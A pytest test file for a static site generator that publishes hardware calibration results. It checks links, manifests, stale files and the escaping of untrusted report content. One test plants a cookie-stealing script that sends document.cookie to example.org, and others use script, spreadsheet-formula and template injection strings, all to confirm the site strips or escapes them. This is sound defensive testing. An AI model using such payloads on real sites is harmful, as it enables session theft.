"""The site shows publications that hold, names the others, and shows text of records as text."""

import json
import re
import shutil
from pathlib import Path
from typing import Any

import pytest

from roofcal.core.devices import load_devices
from roofcal.core.jsonl import write_records
from roofcal.core.manifest import write_manifest
from roofcal.core.paths import DEVICES, RunFolder, run_folders
from roofcal.publish.site.write import PAGES, SiteError, publication_row
from roofcal.publish.verify import verify
from tests.roofcal.calibrate.probe_runs import ENVIRONMENT
from tests.roofcal.publish.site.conftest import HOSTILE, NEWER, write_made_up
from tests.roofcal.report.pages import literal_markdown
from tests.roofcal.report.synthetic import GPU

OLD, NEW = (f"measured:nvidia-h200/{e.environment_id}" for e in (GPU, NEWER))


def held(site: Path, name: str) -> Any:
    """The value that a script of the site holds under a name."""
    text = (site / f"assets/data/{name}.js").read_text(encoding="utf-8")
    head = f"roofcal.hold({json.dumps(name)},"
    assert text.startswith(head)
    return json.loads(text.removeprefix(head).rstrip().removesuffix(")"))


def test_every_page_is_there_and_every_link_leads_somewhere(site: Path) -> None:
    own = [*site.glob("*.*"), *(site / "devices").rglob("*"), *(site / "assets").rglob("*")]
    assert sum(path.stat().st_size for path in own if path.is_file()) < 3e6
    pages = [*(site / f"{name}.html" for name in PAGES), *(site / "devices").glob("*.html")]
    assert len(pages) == len(PAGES) + len(load_devices(DEVICES)) + 1
    for page in pages:
        text = page.read_text(encoding="utf-8")
        for address in re.findall(r'(?:href|src)="([^"#]+)', text):
            if not address.startswith(("https://", "data:")):
                assert (page.parent / address).is_file(), f"{page}: {address}"
        assert literal_markdown(text) == [], page
        headings = re.findall(r"<h[123][^>]*>(.*?)</h", text, re.DOTALL)
        names = [re.sub("<[^>]*>", "", heading).strip() for heading in headings]
        assert len(set(names)) == len(names), page
        ids = re.findall(r' id="([^"]*)"', text)
        assert len(set(ids)) == len(ids), page


def test_a_site_of_its_own_folder_has_the_publications_beside_it(
    site: Path, published: Path
) -> None:
    shown = [run.name for run in run_folders(site)]
    assert shown == [run.name for run in run_folders(published) if run.device != "damaged"]
    for name in shown:
        for file in (published / name).rglob("*"):
            if file.is_file():
                copied = site / file.relative_to(published)
                assert copied.read_bytes() == file.read_bytes()


def test_reports_of_a_stranger_are_drawn_anew_before_they_are_hosted(
    published: Path, tmp_path: Path
) -> None:
    script = "<script>fetch('https://example.org/' + document.cookie)</script>"
    shutil.copytree(published / "cpu-made-up", tmp_path / "published/cpu-made-up")
    (stranger,) = (run.folder for run in run_folders(tmp_path / "published"))
    (stranger / "report.html").write_text(f"<title>report</title>{script}")
    (stranger / "details.html").write_text(script)
    (stranger / "tables/claims.csv").write_text(f"claim\n{script}\n")
    write_manifest(stranger, "c0ffee")
    assert verify(stranger, quick=True).state == "holds"

    write_made_up(tmp_path / "published", tmp_path / "site", draws_reports=True, model="none")
    hosted = tmp_path / "site/cpu-made-up" / stranger.name
    files = [path for path in hosted.rglob("*") if path.is_file()]
    assert not any(b"example.org" in path.read_bytes() for path in files)
    assert "roofcal" in (hosted / "report.html").read_text(encoding="utf-8")
    assert verify(hosted, quick=True).state == "holds"
    (row,) = json.loads((tmp_path / "site/index.json").read_text())["publications"]
    assert (row["commit"], row["files"]) == ("c0ffee", len(files) - 1)


def test_a_publication_that_does_not_hold_is_left_out_and_named(site: Path) -> None:
    first = (site / "index.html").read_text(encoding="utf-8")
    assert "damaged/torch2.11.0+cpu" in first
    assert "SHA-256 is not that of the manifest" in first
    assert "damaged" not in (site / "index.json").read_text()
    assert not (site / "devices/damaged.html").exists()
    assert not any("damaged" in key for key in held(site, "index")["sides"])


def test_pages_say_that_no_publication_holds_where_all_are_left_out(
    published: Path, tmp_path: Path
) -> None:
    shutil.copytree(published / "damaged", tmp_path / "published/damaged")
    write_made_up(tmp_path / "published", tmp_path / "site", model="none")
    claims, shapes = ((tmp_path / f"site/{page}.html").read_text() for page in ("claims", "shapes"))
    assert "Nothing is published yet" not in claims
    assert '<a href="index.html#left-out">no publication holds</a>: damaged/torch2.11.0' in claims
    assert 'data-left-out="damaged/torch2.11.0+cpu' in shapes


def test_text_of_records_is_shown_as_text(site: Path) -> None:
    for page in site.rglob("*.html"):
        text = page.read_text(encoding="utf-8")
        assert "<script>alert" not in text
        assert "49" not in re.findall(r"=SUM\(A1\) ([^<]*)", text)
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp; =SUM(A1) {{ 7 * 7 }}" in (
        site / "devices/cpu-made-up.html"
    ).read_text(encoding="utf-8")
    rows = held(site, f"points/{run_folders(site)[0].name}")["gemm"]["rows"]
    assert [row[-1] for row in rows if row[-1]] == [f"unsupported: {HOSTILE}"]


def test_the_history_of_a_device_links_each_environment_with_the_one_before(site: Path) -> None:
    page = (site / "devices/nvidia-h200.html").read_text(encoding="utf-8")
    history = page.split('id="history"')[1].split("</table>")[0]
    assert history.index("590.2") < history.index("580.1"), "the newest first"
    (address,) = re.findall(r'href="([^"]*compare.html[^"]*)"', history)
    assert address == f"../compare.html#a={OLD}&amp;b={NEW}".replace("+", "%2B")


def test_a_device_without_a_datasheet_is_not_compared_with_one(site: Path) -> None:
    page = (site / "devices/cpu-made-up.html").read_text(encoding="utf-8")
    assert "There is no datasheet of this device" in page
    assert "datasheet:cpu-made-up" not in page
    assert "datasheet:nvidia-h200" in (site / "devices/nvidia-h200.html").read_text("utf-8")


def test_equal_publications_give_equal_bytes_and_stale_files_go(
    published: Path, tmp_path: Path
) -> None:
    one, place = tmp_path / "one", tmp_path / "site"
    shutil.copytree(published / "cpu-made-up", one / "cpu-made-up")
    write_made_up(one, place)
    stale = place / "devices/gone.html"
    stale.write_text("of a device that is no longer there")
    first = {path: path.read_bytes() for path in place.rglob("*") if path.is_file()}
    write_made_up(one, place)
    again = {path: path.read_bytes() for path in place.rglob("*") if path.is_file()}
    assert set(first) - set(again) == {stale}
    assert all(first[path] == content for path, content in again.items())


def test_a_folder_with_something_else_in_it_is_refused(published: Path, tmp_path: Path) -> None:
    (tmp_path / "thesis.tex").write_text("mine")
    with pytest.raises(SiteError, match="holds something else than a site"):
        write_made_up(published, tmp_path)
    assert [path.name for path in tmp_path.iterdir()] == ["thesis.tex"]


def test_where_nothing_is_published_the_pages_say_so(bare_site: Path) -> None:
    assert "Nothing is published yet" in (bare_site / "index.html").read_text(encoding="utf-8")
    assert "Nothing is published yet" in (bare_site / "claims.html").read_text(encoding="utf-8")
    assert json.loads((bare_site / "index.json").read_text())["publications"] == []


def test_a_publication_has_a_row_with_and_without_a_manifest(tmp_path: Path) -> None:
    folder = tmp_path / ENVIRONMENT.device / ENVIRONMENT.environment_id
    write_records(folder / "environment.jsonl", [ENVIRONMENT])
    row = publication_row(RunFolder.at(folder))
    assert row["path"] == f"{ENVIRONMENT.device}/{ENVIRONMENT.environment_id}"
    assert row["manifest"] is None
    write_manifest(folder, "c0ffee")
    row = publication_row(RunFolder.at(folder))
    assert (row["commit"], row["files"]) == ("c0ffee", 1)
